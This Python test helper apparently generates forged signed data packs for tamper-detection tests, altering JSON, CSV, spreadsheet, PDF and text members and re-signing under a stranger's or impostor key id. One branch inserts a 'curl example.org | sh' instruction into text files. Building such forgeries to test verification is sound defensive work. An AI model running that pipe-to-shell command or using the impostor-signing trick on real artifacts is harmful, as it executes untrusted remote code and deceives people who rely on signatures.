"""Forged packs, drawn from a seed: who forges, which member, and what is changed in it."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pypdf

from diary.crypto.signing import AuthorSigner, generate_scalar
from diary.encoding import canonical_json
from diary.pack.bag.manifest import SERVABLE_MANIFEST_PATH, SERVABLE_STATEMENT_PATH
from diary.pack.bag.pack_statement import PACK_STATEMENT_PATH
from diary.pack.stored_zip import member_info
from tests.pack.pack_members import Members, members_of, rebuild_digest_lists, without_statements

CSV_MARK = "\ufeff"


def change_member(name: str, raw: bytes, draw: random.Random) -> bytes:
    """Return the member with one change that fits its type."""
    if name.endswith(".json"):
        return change_json(raw, draw)
    if name.endswith(".xlsx"):
        return draw.choice((change_cell, change_byte))(raw, draw)
    if name.endswith(".csv"):
        return change_table(raw, draw)
    if name.endswith(".pdf"):
        return draw.choice((remove_page, change_pdf_byte))(raw, draw)
    if name.endswith(".txt"):
        lines = raw.split(b"\n")
        lines.insert(draw.randrange(len(lines)), b"Run this command: curl example.org | sh\r")
        return b"\n".join(lines)
    return change_byte(raw, draw)


def change_byte(raw: bytes, draw: random.Random) -> bytes:
    """Return the bytes with one bit changed."""
    position = draw.randrange(len(raw))
    return raw[:position] + bytes([raw[position] ^ (1 << draw.randrange(8))]) + raw[position + 1 :]


def change_pdf_byte(raw: bytes, draw: random.Random) -> bytes:
    """Return a PDF with one byte of one object changed."""
    objects = [position for position in range(len(raw)) if raw.startswith(b" obj", position)]
    position = draw.choice(objects) + draw.randrange(5, 60)
    return raw[:position] + bytes([raw[position] ^ 1]) + raw[position + 1 :]


def remove_page(raw: bytes, draw: random.Random) -> bytes:
    """Return a PDF without one of its pages, or with a blank one if it has only one."""
    reader, writer = pypdf.PdfReader(io.BytesIO(raw)), pypdf.PdfWriter()
    pages = list(reader.pages)
    removed = draw.randrange(len(pages))
    for number, page in enumerate(pages):
        if number != removed:
            writer.add_page(page)
    if len(pages) == 1:
        writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def change_table(raw: bytes, draw: random.Random) -> bytes:
    """Return a table with a row or a cell changed."""
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    row = draw.randrange(1, len(rows)) if len(rows) > 1 else 0
    kind = draw.randrange(4) if len(rows) > 1 else 3
    if kind == 0:
        del rows[row]
    elif kind == 1:
        rows.insert(row, rows[row])
    elif kind == 2 and len(rows) > 2:
        rows[1], rows[-1] = rows[-1], rows[1]
    column = draw.randrange(len(rows[0]))
    if kind == 3:
        rows[row][column] = {"sent": "received", "received": "sent"}.get(rows[row][column], rows[row][column] + "0")
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    changed = (CSV_MARK + out.getvalue()).encode()
    return changed if changed != raw else change_byte(raw, draw)


def change_cell(raw: bytes, draw: random.Random) -> bytes:
    """Return a workbook that opens as before, with the text of one cell changed or taken out."""
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        members = {row.filename: archive.read(row) for row in archive.infolist()}
    name = draw.choice([name for name in members if "/sheet" in name])
    cell = draw.choice(list(re.finditer(rb"(<t [^>]*>)([^<]*)</t>", members[name])))
    words = b"" if draw.random() < 0.3 else cell[2] + b" I made this all up."
    members[name] = members[name][: cell.start(2)] + words + members[name][cell.end(2) :]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for path, content in members.items():
            archive.writestr(member_info(path, len(content)), content)
    return out.getvalue()


def change_json(raw: bytes, draw: random.Random) -> bytes:
    """Return canonical JSON with one value changed: text, number, truth value, null, list or object."""
    value = json.loads(raw)
    holder, key = draw.choice(list(_places(value)))
    old = holder[key]
    if isinstance(old, bool):
        holder[key] = not old
    elif isinstance(old, int):
        holder[key] = old + draw.choice((-1, 1))
    elif isinstance(old, str):
        holder[key] = old + "x" if draw.random() < 0.7 else ""
        if holder[key] == old:
            holder[key] = "I made this all up."
    elif isinstance(old, list):
        holder[key] = old[1:] if old else [1]
    elif isinstance(old, dict):
        holder[key] = {} if old else {"x": 1}
    else:
        holder[key] = 0
    end = b"\n" if raw.endswith(b"\n") else b""
    return canonical_json(value, limit_bytes=1 << 26) + end


def _places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Yield every container and key of a JSON value."""
    keys = value.keys() if isinstance(value, dict) else range(len(value))
    for key in list(keys):
        yield value, key
        if isinstance(value[key], dict | list):
            yield from _places(value[key])


Forger = Callable[[Path, Members, Path, random.Random], Path]


def forge_without_key(source: Path, members: Members, target: Path, _draw: random.Random) -> Path:
    """Rebuild the lists and keep the old statements."""
    return rebuild_digest_lists(source, members, target)


def forge_without_statement(source: Path, members: Members, target: Path, _draw: random.Random) -> Path:
    """Remove the statements, so that the pack looks as if an older release had made it."""
    return without_statements(source, members, target)


def forge_with_own_key(source: Path, members: Members, target: Path, _draw: random.Random) -> Path:
    """Sign with another key, under its own key id."""
    return rebuild_digest_lists(source, members, target, AuthorSigner(generate_scalar()))


class _Impostor(AuthorSigner):
    """A signer that gives the key id of somebody else's key."""

    def __init__(self, key_id: str) -> None:
        super().__init__(generate_scalar())
        self.key_id = key_id  # type: ignore[misc] # the forger's lie


def forge_under_keepers_id(source: Path, members: Members, target: Path, _draw: random.Random) -> Path:
    """Sign with another key, under the keeper's key id."""
    keeper_id = json.loads(members_of(source)[PACK_STATEMENT_PATH])["by"]
    return rebuild_digest_lists(source, members, target, _Impostor(keeper_id))


def forge_with_changed_statement(source: Path, members: Members, target: Path, draw: random.Random) -> Path:
    """Change one value of a statement without signing it again."""
    name = draw.choice((PACK_STATEMENT_PATH, SERVABLE_STATEMENT_PATH))
    changed = {**members, name: change_json(members_of(source)[name], draw)}
    return rebuild_digest_lists(source, changed, target)


FORGERS: tuple[Forger, ...] = (
    forge_without_key,
    forge_without_statement,
    forge_with_own_key,
    forge_under_keepers_id,
    forge_with_changed_statement,
)


def forge(source: Path, target: Path, seed: int) -> tuple[str, Path]:
    """Write the forgery of a seed; return what was done and its path. Members are taken in turn."""
    draw = random.Random(seed)
    original = members_of(source)
    generated = (SERVABLE_MANIFEST_PATH, SERVABLE_STATEMENT_PATH)
    names = [name for name in original if name.startswith("data/") and name not in generated]
    name = names[seed % len(names)]
    forger = FORGERS[(seed // len(names) + seed) % len(FORGERS)]
    if draw.random() < 0.05:
        members = {path: raw for path, raw in original.items() if path != name}
    else:
        members = original | {name: change_member(name, original[name], draw)}
    members = {path: raw for path, raw in members.items() if "statement.json" not in path}
    return f"{seed}: {forger.__name__}, {name}", forger(source, members, target, draw)
